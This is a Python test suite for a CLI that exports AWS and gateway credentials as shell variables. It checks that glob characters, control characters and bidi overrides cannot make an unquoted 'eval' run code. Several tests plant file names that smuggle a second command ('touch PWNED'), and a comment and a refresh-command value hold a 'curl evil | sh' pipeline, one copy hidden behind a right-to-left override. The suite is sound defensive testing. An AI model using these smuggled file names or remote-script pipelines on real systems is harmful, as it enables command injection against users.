"""The unquoted `eval $(cc-aws-tui export NAME)` never runs code planted as a file name.

bash and dash glob every word of an unquoted command substitution against the working
directory before `eval` sees it, quotes or not. A value holding `*`, `?` or `[` (a team file's
base URL, an AWS profile named `x*`) would then be replaced by a crafted file name, and eval
runs that name as code. Fields refuse those characters; a secret that holds one makes `export`
fail unless the caller promises the quoted form (`--quoted`).
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from profiles.core import rules
from tests.realshell import require_shell

WS = "wrkspc_01AbCdEf23GhIj"
PROFILES_HEADER = "schema = 1\n\n"


def _write_profiles(config_dir: Path, body: str) -> None:
    config_dir.mkdir(mode=0o700, parents=True, exist_ok=True)
    (config_dir / "profiles.toml").write_text(PROFILES_HEADER + body, encoding="utf-8")


def _write_secrets(config_dir: Path, body: str) -> None:
    path = config_dir / "secrets.toml"
    path.write_text(body, encoding="utf-8")
    path.chmod(0o600)


def _eval_unquoted(shell: str, script: str, workdir: Path) -> subprocess.CompletedProcess[str]:
    """`eval $(cc-aws-tui export dev)` as a user pastes it, in `workdir`, in a real shell."""
    return subprocess.run(
        [
            require_shell(shell),
            "-c",
            f'eval $("{script}" export dev); echo "AWS_PROFILE=$AWS_PROFILE"',
        ],
        cwd=workdir,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ},
    )


@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_aws_profile_with_a_glob_cannot_run_a_planted_file_name(
    shell: str, config_dir: Path, tmp_path: Path, console_script: str
) -> None:
    # The profile as a team file or a hand edit could leave it: AWS profile `x*`.
    _write_profiles(
        config_dir,
        f'[profiles.dev]\nauth = "sigv4"\naws_profile = "x*"\nworkspace_id = "{WS}"\n'
        'region = "us-east-1"\n',
    )
    # The export line `export AWS_PROFILE='x*';` globs to this name, which is shell code.
    workdir = tmp_path / "cloned-repo"
    workdir.mkdir()
    (workdir / "AWS_PROFILE='x';touch PWNED;echo '';").write_text("")

    run = _eval_unquoted(shell, console_script, workdir)

    assert not (workdir / "PWNED").exists(), "the planted file name ran as code"
    assert "profiles.toml:5:1" in run.stderr
    assert "must not contain * ? [" in run.stderr


@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_base_url_with_a_glob_is_refused_and_nothing_runs(
    shell: str, config_dir: Path, tmp_path: Path, console_script: str
) -> None:
    _write_profiles(
        config_dir,
        f'[profiles.dev]\nauth = "sigv4"\nbase_url = "https://gw.example.com/v*"\n'
        f'gateway_signs = true\nworkspace_id = "{WS}"\nregion = "us-east-1"\n',
    )
    workdir = tmp_path / "w"
    workdir.mkdir()
    run = subprocess.run(
        [console_script, "export", "dev"], cwd=workdir, capture_output=True, text=True
    )
    assert run.returncode == 2
    assert run.stdout == ""
    assert run.stderr.count("\n") == 1
    assert "base URL must not contain * ? [" in run.stderr


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("aws_profile", "dev?"),
        ("aws_profile", "dev+(x)"),
        ("base_url", "https://gw.example.com/[ab]"),
        ("base_url", "https://gw.example.com/!(v1)"),
    ],
)
def test_add_refuses_glob_characters_with_one_line(
    field: str, value: str, config_dir: Path, console_script: str
) -> None:
    flag = "--aws-profile" if field == "aws_profile" else "--base-url"
    extra = [] if field == "aws_profile" else ["--gateway-signs"]
    run = subprocess.run(
        [console_script, "add", "dev", "--auth", "sigv4", flag, value, *extra,
         "--workspace", WS, "--region", "us-east-1"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert run.returncode == 2, run.stderr
    assert run.stdout == ""
    assert "must not contain * ? [" in run.stderr
    assert not (config_dir / "profiles.toml").exists()


def _token_profile(config_dir: Path, token: str) -> None:
    _write_profiles(
        config_dir,
        '[profiles.dev]\nauth = "sigv4"\nbase_url = "https://gw.example.com"\n'
        f'gateway_token_store = "file"\nworkspace_id = "{WS}"\nregion = "us-east-1"\n',
    )
    _write_secrets(config_dir, f"[dev]\ngateway_token = {token!r}\n".replace("'", '"'))


@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_secret_with_a_glob_fails_export_unless_quoted(
    shell: str, config_dir: Path, tmp_path: Path, console_script: str
) -> None:
    token = "gw-token*4f8a2b9c1d7e"
    _token_profile(config_dir, token)
    workdir = tmp_path / "w"
    workdir.mkdir()
    (workdir / "ANTHROPIC_AUTH_TOKEN=gw-token;touch PWNED;echo ;").write_text("")

    plain = subprocess.run(
        [console_script, "export", "dev"], cwd=workdir, capture_output=True, text=True
    )
    assert plain.returncode == 1
    assert plain.stdout == ""
    assert token not in plain.stderr
    assert "--quoted" in plain.stderr
    assert "exec dev" in plain.stderr
    assert plain.stderr.count("\n") == 1

    unquoted = _eval_unquoted(shell, console_script, workdir)
    assert not (workdir / "PWNED").exists()
    assert unquoted.returncode == 0  # eval of nothing

    quoted = subprocess.run(
        [require_shell(shell), "-c",
         f'eval "$("{console_script}" export dev --quoted)" && printf %s "$ANTHROPIC_AUTH_TOKEN"'],
        cwd=workdir, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert quoted.returncode == 0, quoted.stderr
    assert quoted.stdout == token
    assert not (workdir / "PWNED").exists()


def test_other_shells_are_never_globbed(config_dir: Path, console_script: str) -> None:
    _token_profile(config_dir, "gw-token*4f8a2b9c1d7e")
    run = subprocess.run(
        [console_script, "export", "dev", "--shell", "fish"], capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr
    assert "set -gx ANTHROPIC_AUTH_TOKEN 'gw-token*4f8a2b9c1d7e';" in run.stdout


# --- secrets are values like any other -------------------------------------------------------


@pytest.mark.parametrize(
    "stored",
    ["sk-ant-api03-abc\\u0000def-ghijklmnop", "sk-ant-api03-abc\\ndef-ghijklmnop", "sk-ant-a b"],
)
def test_hand_edited_key_with_nul_or_newline_is_not_exported(
    stored: str, config_dir: Path, console_script: str
) -> None:
    _write_profiles(
        config_dir,
        f'[profiles.dev]\nauth = "api-key"\napi_key_store = "file"\nworkspace_id = "{WS}"\n'
        'region = "us-east-1"\n',
    )
    _write_secrets(config_dir, f'[dev]\napi_key = "{stored}"\n')
    run = subprocess.run([console_script, "export", "dev"], capture_output=True, text=True)
    assert run.returncode == 1
    assert run.stdout == ""
    assert "its API key is not usable" in run.stderr
    assert "abc" not in run.stderr  # never a piece of the value
    assert run.stderr.count("\n") == 1


# --- stored fields refuse what could spoof the screen ---------------------------------------


@pytest.mark.parametrize("char", ["\x1b", "\x9b", "\u202e", "\u2066", "\u200f", "\u061c", "\x85"])
def test_stored_text_refuses_controls_and_bidi(char: str) -> None:
    with pytest.raises(ValueError, match="control characters"):
        rules.check_one_line(f"aws sso login --profile dev{char}x", "the command")
    with pytest.raises(ValueError, match="control characters"):
        rules.check_aws_profile(f"dev{char}")
    with pytest.raises(ValueError, match="not a URL"):
        rules.check_base_url(f"https://gw.example.com/{char}")
    with pytest.raises(ValueError, match="control characters"):
        rules.check_token(f"tok{char}en")


def test_hand_edited_refresh_command_with_an_override_is_refused(
    config_dir: Path, console_script: str
) -> None:
    # U+202E would make `... --profile dev; curl evil | sh` read differently on screen.
    _write_profiles(
        config_dir,
        f'[profiles.dev]\nauth = "sigv4"\nworkspace_id = "{WS}"\nregion = "us-east-1"\n'
        'aws_auth_refresh = "aws sso login \\u202e hs | live lruc"\n',
    )
    run = subprocess.run([console_script, "list"], capture_output=True, text=True)
    assert run.returncode == 2
    assert "profiles.toml:7:1" in run.stderr
    assert "\u202e" not in run.stderr
